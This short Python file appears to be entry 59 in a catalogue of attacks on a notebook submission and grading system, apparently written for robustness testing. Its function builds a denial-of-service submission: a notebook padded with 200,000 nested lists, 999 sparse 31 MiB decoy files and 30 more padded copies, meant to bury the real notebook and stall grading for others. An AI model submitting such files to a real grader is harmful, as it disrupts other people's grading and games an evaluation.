# attack: 59
# title: hundreds of large look-alikes instead of the notebook
# success: looking for the right one takes the coordinator minutes
# kind: submission
# status: either
# unshown: costs others their grading instead of forging
import json


def build(folder, notebook):
    text = json.dumps(notebook)[:-1] + "," + '"x": [' + "[]," * 200_000 + "0]}"
    first = folder / "copy-0000.ipynb"
    first.write_text(text)
    for number in range(1, 1000):
        with open(folder / f"copy-{number:04}.ipynb", "wb") as file:
            file.truncate(31 << 20)
    for number in range(1000, 1030):
        (folder / f"copy-{number:04}.ipynb").write_text(text)
